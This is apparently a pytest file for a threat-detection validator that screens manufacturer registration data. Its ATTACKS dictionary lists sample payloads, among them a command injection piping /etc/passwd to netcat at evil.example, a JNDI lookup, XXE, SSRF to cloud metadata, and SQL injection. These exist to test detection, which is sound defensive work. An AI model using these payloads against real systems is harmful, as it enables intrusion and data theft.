"""ManufacturerSecurityValidator as the contract has it."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from enum import Enum
from itertools import repeat
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

from gatewright.controls import Controls, Measure
from gatewright.errors import ConfigurationError, UnknownThreatTypeError, ValidationError
from gatewright.storage import SqliteStore, StoredAccount, StoredManufacturer
from gatewright.testing import ListSink, ManualClock
from gatewright.threats import KNOWN_NAMES_AGE, DetectionEngine, ManufacturerSecurityValidator, ThreatType
from tests.support.rules import OWN_RULE
from tests.support.waiting import eventually

NOW = datetime(2026, 1, 1, tzinfo=UTC)
CLEAN: dict[str, Any] = {
    "company_name": "Acme Manufacturing Corp",
    "email": "contact@acme-manufacturing.com",
    "business_license": "BL-2024-001234",
    "tax_id": "12-3456789",
    "website": "https://www.acme-manufacturing.com",
    "phone": "+1-555-123-4567",
    "address": {"street": "123 Industrial Way", "city": "Detroit", "state": "MI", "zip": "48201", "country": "US"},
}
ATTACKS = {
    "sql_injection": "' OR '1'='1' --",
    "nosql_injection": {"password": {"$ne": None}},
    "xss": "<script>alert('xss')</script>",
    "script_injection": "javascript:alert(document.cookie)",
    "command_injection": "; cat /etc/passwd | nc evil.example 4444",
    "path_traversal": "../../../../etc/passwd",
    "ldap_injection": "*)(uid=*))(|(uid=*",
    "xml_injection": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "template_injection": "{{ config.__class__.__init__.__globals__ }}",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
    "jndi_injection": "${jndi:ldap://evil.example/a}",
    "header_injection": "x\r\nSet-Cookie: admin=true",
    "prototype_pollution": {"__proto__": {"isAdmin": True}},
    "code_injection": "__import__('os').system('id')",
}
HARMLESS = ["Select specialty hospital", "O'Brien & Sons", "Smith; Jones and Partners", "100% cotton <3", {"name": "x"}]


@pytest.fixture(scope="module")
def engine() -> DetectionEngine:
    return DetectionEngine.load()


@pytest.fixture
async def validator(engine: DetectionEngine) -> AsyncIterator[ManufacturerSecurityValidator]:
    async with ManufacturerSecurityValidator(engine=engine) as opened:
        yield opened


class TestDetection:
    @pytest.mark.parametrize("threat_type", list(ThreatType))
    async def test_each_type(self, validator: ManufacturerSecurityValidator, threat_type: ThreatType) -> None:
        """Detected, analyzed and graded under its own type."""
        attack = ATTACKS[threat_type]
        assert await validator.detect_threat(threat_type, attack)
        result = await validator.analyze_threat(str(threat_type), attack)
        assert (result.threat_detected, result.threat_type) == (True, threat_type)
        assert 0.5 < result.confidence <= 1 and 0 < result.risk_score <= 1
        assert result.severity in ("low", "medium", "high", "critical")
        assert result.detected_patterns and result.evidence
        assert await validator.get_threat_confidence(threat_type, attack) == result.confidence

    @pytest.mark.parametrize("threat_type", list(ThreatType))
    async def test_harmless(self, validator: ManufacturerSecurityValidator, threat_type: ThreatType) -> None:
        for value in HARMLESS:
            assert not await validator.detect_threat(threat_type, value), value
            clean = await validator.analyze_threat(threat_type, value)
            assert (clean.threat_detected, clean.threat_type, clean.severity) == (False, threat_type, "none")

    async def test_type_by_any_name(self, validator: ManufacturerSecurityValidator) -> None:
        """The library's enum, another enum of the same value, or the plain string."""
        other = Enum("Other", {"SQL": "sql_injection"})
        for name in (ThreatType.SQL_INJECTION, other["SQL"], "sql_injection"):
            assert await validator.detect_threat(name, ATTACKS["sql_injection"])

    @pytest.mark.parametrize("name", ["sqli", "", None, 7])
    async def test_unknown_type(self, validator: ManufacturerSecurityValidator, name: Any) -> None:
        for call in (validator.detect_threat, validator.analyze_threat, validator.get_threat_confidence):
            with pytest.raises(UnknownThreatTypeError):
                await call(name, "x")
        with pytest.raises(UnknownThreatTypeError):
            await validator.provide_threat_feedback("x", name, True, actor="ann")

    async def test_neighbours_count(self, validator: ManufacturerSecurityValidator) -> None:
        """SQL inside a MongoDB operator is found when asked for either."""
        value = {"name": {"$ne": "' UNION SELECT password FROM users --"}}
        assert await validator.detect_threat("sql_injection", value)
        assert await validator.detect_threat("nosql_injection", value)
        found = await validator.analyze_threat("script_injection", ATTACKS["xss"])
        assert found.threat_detected and found.threat_type == "script_injection"

    async def test_places(self, validator: ManufacturerSecurityValidator) -> None:
        """Keys are inspected as well as values, and each finding tells its place."""
        data = {"products": [{"name": "ok"}, {"name": ATTACKS["xss"]}], "<script>alert(1)</script>": 1}
        inspection = await validator.inspect(data)
        paths = {found.path for found in inspection.findings}
        assert "$.products[1].name" in paths
        assert len(paths) == 2
        assert inspection.threat_detected and inspection["risk_score"] > 0

    async def test_large_values_leave_the_loop(self, validator: ManufacturerSecurityValidator) -> None:
        """A value of a megabyte is inspected in a thread; the attack in it is found."""
        text = "harmless words and more of them. " * 30_000
        clean, attacked = await asyncio.gather(
            validator.inspect({"text": text}), validator.inspect([text, ATTACKS["sql_injection"]])
        )
        assert attacked.threat_detected
        assert not clean.threat_detected

    async def test_batches(self, validator: ManufacturerSecurityValidator) -> None:
        items = [*HARMLESS, *ATTACKS.values()]
        results = await validator.inspect_many(items)
        assert [r.threat_detected for r in results] == [False] * len(HARMLESS) + [True] * len(ATTACKS)
        assert results == [await validator.inspect(item) for item in items]
        assert await validator.inspect_many([]) == []
        for bad in ("text", b"bytes", {"a": 1}, 5, range(100_001), repeat("x")):
            with pytest.raises(ValidationError):
                await validator.inspect_many(bad)

    async def test_measures_raise_the_level(self, engine: DetectionEngine) -> None:
        """A measure for a manufacturer or route raises the level for it alone."""
        controls = Controls()
        async with ManufacturerSecurityValidator(engine=engine, controls=controls) as validator:
            level = validator._detection.level_for
            assert level("m1") == 1
            controls.apply(
                Measure(measure_id="a", kind="detection_level", scope="manufacturer:m1", value=3, created_at=NOW)
            )
            assert (level("m1"), level("m2"), level(None, "upload")) == (3, 1, 1)
            assert not (await validator.inspect("plain words", manufacturer_id="m1")).threat_detected


class SlowNames:
    """No one is registered, and it takes its time to say so."""

    def __init__(self) -> None:
        self.go, self.asked = asyncio.Event(), asyncio.Event()

    async def list_manufacturers(self, *, after: str = "", limit: int = 100) -> list[StoredManufacturer]:
        if not self.go.is_set():
            self.asked.set()
        await self.go.wait()
        return []


class TestData:
    async def test_clean(self, validator: ManufacturerSecurityValidator) -> None:
        result = await validator.validate_manufacturer_data(CLEAN)
        assert result.is_valid
        assert result.errors == [] and result.threats == []
        assert [w.error_type for w in result.warnings] == ["UNASSIGNED_PHONE_NUMBER"]
        assert result.security_score > 0.8
        assert result["risk_level"] == "low"

    async def test_disposable_mail(self, validator: ManufacturerSecurityValidator) -> None:
        result = await validator.validate_manufacturer_data({**CLEAN, "email": "me@10minutemail.com"})
        assert result.is_valid
        assert "SUSPICIOUS_EMAIL_DOMAIN" in {w.error_type for w in result.warnings}
        assert result.security_score < 0.7

    @pytest.mark.parametrize(
        ("field", "value", "code"),
        [
            ("company_name", "", "EMPTY_REQUIRED_FIELD"),
            ("email", "invalid-email", "INVALID_EMAIL_FORMAT"),
            ("website", "not-a-url", "INVALID_URL_FORMAT"),
            ("phone", "invalid", "INVALID_PHONE_FORMAT"),
            ("tax_id", "invalid", "INVALID_TAX_ID_FORMAT"),
            ("business_license", "123", "INVALID_LICENSE_FORMAT"),
            ("address", {"street": "", "city": "x", "state": "MI", "zip": "48201", "country": "US"}, "INVALID_ADDRESS"),
        ],
    )
    async def test_every_error_of_the_contract(
        self, validator: ManufacturerSecurityValidator, field: str, value: Any, code: str
    ) -> None:
        result = await validator.validate_manufacturer_data({**CLEAN, field: value})
        assert not result.is_valid
        assert code in {error.error_type for error in result.errors}
        assert all(error.field.partition(".")[0] == field and error.message for error in result.errors)

    @pytest.mark.parametrize("field", ["company_name", "description", "address"])
    async def test_an_attack_anywhere(self, engine: DetectionEngine, field: str) -> None:
        """It makes the data invalid and the score low, and an event tells where it was, not what."""
        sink = ListSink()
        attack = "'; DROP TABLE users; --"
        value: Any = {**CLEAN["address"], "street": attack} if field == "address" else attack
        async with ManufacturerSecurityValidator(engine=engine, sink=sink) as validator:
            result = await validator.validate_manufacturer_data({**CLEAN, field: value, "manufacturer_id": "m1"})
        assert not result.is_valid
        assert result.threats and result.threats[0].threat_type == "sql_injection"
        assert "THREAT_DETECTED" in {error.error_type for error in result.errors}
        assert result.security_score < 0.5 and result.risk_level in ("high", "critical")
        (told,) = sink.events
        assert (told.kind, told.manufacturer_id) == ("threats:data:refused", "m1")
        assert attack not in str(told)

    async def test_mostly_invalid(self, validator: ManufacturerSecurityValidator) -> None:
        data = {"company_name": "", "email": "x", "business_license": "1", "tax_id": "x", "website": "x", "phone": "1"}
        result = await validator.validate_manufacturer_data(data)
        assert result.security_score < 0.3
        assert result.risk_level == "critical"

    async def test_too_deep_to_be_seen(self, validator: ManufacturerSecurityValidator) -> None:
        deep: Any = "x"
        for _ in range(100):
            deep = [deep]
        result = await validator.validate_manufacturer_data({**CLEAN, "extra": deep})
        assert ("$", "INPUT_TOO_LARGE") in {(e.field, e.error_type) for e in result.errors}

    async def test_many(self, validator: ManufacturerSecurityValidator) -> None:
        results = await validator.validate_many([CLEAN, {}, CLEAN])
        assert [r.is_valid for r in results] == [True, False, True]
        with pytest.raises(ValidationError):
            await validator.validate_many(["text"])  # type: ignore[list-item]

    async def test_names_of_others(self, engine: DetectionEngine) -> None:
        """A name that looks like a registered one is a warning."""
        async with SqliteStore() as store:
            await store.create_manufacturer(
                StoredManufacturer(
                    manufacturer_id="m1", company_name="Microsoft Inc", tier="free", created_at=NOW, updated_at=NOW
                ),
                StoredAccount(
                    account_id="a1",
                    manufacturer_id="m1",
                    email="a@b.test",
                    email_key="a@b.test",
                    created_at=NOW,
                    updated_at=NOW,
                ),
            )
            async with ManufacturerSecurityValidator(engine=engine, store=store, manufacturers=store) as validator:
                result = await validator.validate_manufacturer_data({**CLEAN, "company_name": "Mіcrosoft"})
                assert "LOOKALIKE_COMPANY_NAME" in {w.error_type for w in result.warnings}
                assert result.security_score < 0.8
                assert await validator.validate_many([CLEAN])

    async def test_who_reads_the_names_again_keeps_nobody_waiting(self, engine: DetectionEngine) -> None:
        clock, names = ManualClock(NOW), SlowNames()
        async with ManufacturerSecurityValidator(engine=engine, clock=clock, manufacturers=names) as validator:
            names.go.set()
            await validator.validate_manufacturer_data(CLEAN)
            names.go.clear()
            clock.advance(KNOWN_NAMES_AGE + 1)
            reader = asyncio.create_task(validator.validate_manufacturer_data(CLEAN))
            await names.asked.wait()
            assert (await validator.validate_manufacturer_data(CLEAN)).is_valid
            assert not reader.done()
            names.go.set()
            assert (await reader).is_valid

    async def test_sanitize(self, validator: ManufacturerSecurityValidator) -> None:
        result = await validator.sanitize("<b>x</b><script>alert(1)</script>", "html")
        assert (result.value, result.removed) == ("<b>x</b>", ["<script>"])
        assert (await validator.sanitize("x" * 100_000, context="text")).removed == []
        with pytest.raises(ValidationError):
            await validator.sanitize("x", "sql")


class TestLearning:
    async def test_feedback_and_versions(self, engine: DetectionEngine) -> None:
        """Feedback is taken, a version made, listed, taken back; what was found is counted."""
        sink = ListSink()
        async with ManufacturerSecurityValidator(engine=engine, sink=sink) as validator:
            given = await validator.provide_threat_feedback(
                "@@{{#weird: run('x')}}@@", ThreatType.TEMPLATE_INJECTION, True, actor="ann", reason="seen in logs"
            )
            assert (given.status, given.threat_type, given.actor) == ("open", "template_injection", "ann")
            version = await validator.retrain_ml_models(actor="ann")
            assert version.reason and version.version == 1
            assert set(version.metrics) >= {"guard_recall", "guard_fpr", "statements"}
            assert [v.version for v in await validator.list_model_versions()] == [1]
            base = await validator.rollback_model(0)
            assert base.version == 0
            with pytest.raises(ValidationError):
                await validator.rollback_model(5)
            await validator.inspect(ATTACKS["xss"])
            statistics = await validator.get_pattern_statistics()
            assert statistics.detections == 1 and statistics.by_type["xss"] == 1
        assert "threats:feedback:given" in sink.kinds()

    async def test_another_process_is_followed(self, engine: DetectionEngine) -> None:
        """A version that another validator made on the same store comes into use here by itself."""
        texts = [f"@@{{{{#weird{n}: run('x{'y' * n}')}}}}@@ #{'(' * n}" for n in range(20)]
        async with (
            SqliteStore() as store,
            ManufacturerSecurityValidator(engine=engine, store=store) as one,
            ManufacturerSecurityValidator(engine=engine, store=store) as other,
        ):
            before = [engine.encode(t).margin for t in texts]
            for text in texts:
                await one.provide_threat_feedback(text, "template_injection", True, actor="ann")
            version = await one.retrain_ml_models()
            assert version.accepted, version.reason

            async def followed() -> bool:
                return all([await one.inspect(text) == await other.inspect(text) for text in texts[:3]])

            await eventually(followed)
            assert [engine.encode(t).margin for t in texts] == before

    async def test_false_alarms_are_told(self, engine: DetectionEngine) -> None:
        sink = ListSink()
        async with ManufacturerSecurityValidator(engine=engine, sink=sink) as validator:
            for number in range(5):
                await validator.provide_threat_feedback(f"<script>alert({number})</script>", "xss", False, actor="ann")
            statistics = await validator.get_pattern_statistics()
        assert statistics.feedback_false_alarms == 5
        assert "threats:model:false_alarms" in sink.kinds()


class TestLife:
    async def test_built_alone(self) -> None:
        """With no argument at all; initialize and close may be called twice."""
        validator = ManufacturerSecurityValidator()
        with pytest.raises(ConfigurationError):
            await validator.inspect("x")
        assert not validator.degraded
        await validator.initialize()
        await validator.initialize()
        assert await validator.load_threat_patterns() > 100
        assert await validator.detect_threat("xss", ATTACKS["xss"])
        await validator.close()
        await validator.close()

    async def test_a_closed_one_stays_closed(self, engine: DetectionEngine) -> None:
        validator = ManufacturerSecurityValidator(engine=engine)
        await validator.initialize()
        await validator.close()
        for size in (1, 100_000):
            with pytest.raises(ConfigurationError):
                await validator.inspect("x" * size)
        with pytest.raises(ConfigurationError, match="closed"):
            await validator.initialize()

    async def test_large_batches_in_processes(self) -> None:
        """The same verdicts, in the same order, as one by one."""
        async with ManufacturerSecurityValidator(processes=2) as validator:
            text = "harmless words and more of them. " * 2_000
            items = [text, ATTACKS["xss"], text] * 25
            results = await validator.inspect_many(items)
            assert [r.threat_detected for r in results] == [False, True, False] * 25
            assert results[1] == await validator.inspect(ATTACKS["xss"])

    async def test_processes_read_the_rules_again_too(self, tmp_path: Path) -> None:
        rules = tmp_path / "own.toml"
        rules.write_text(OWN_RULE.format(word="zebra"))
        items = [f"a zebra {number} " + "harmless words and more of them. " * 40_000 for number in range(4)]
        async with ManufacturerSecurityValidator(processes=2, rules_dir=tmp_path) as validator:
            assert [found.threat_detected for found in await validator.inspect_many(items)] == [True] * 4
            rules.write_text(OWN_RULE.format(word="gnu"))
            assert await validator.load_threat_patterns() == 1
            assert [found.threat_detected for found in await validator.inspect_many(items)] == [False] * 4

    async def test_values_that_no_process_can_be_handed(self) -> None:
        async with ManufacturerSecurityValidator(processes=2) as validator:
            items = [MappingProxyType({"text": "harmless words. " * 150_000, "name": ATTACKS["xss"]})] * 2
            assert [found.threat_detected for found in await validator.inspect_many(items)] == [True, True]

    async def test_without_a_model(self, tmp_path: Path) -> None:
        """A damaged model file degrades: rules alone decide, and it says so."""
        broken = tmp_path / "model.safetensors"
        broken.write_bytes(b"not a model")
        async with ManufacturerSecurityValidator(model_file=broken) as validator:
            assert validator.degraded
            assert await validator.detect_threat("xss", ATTACKS["xss"])
            await validator.provide_threat_feedback("<x y=z>", "xss", True, actor="ann")
            assert not (await validator.retrain_ml_models()).accepted
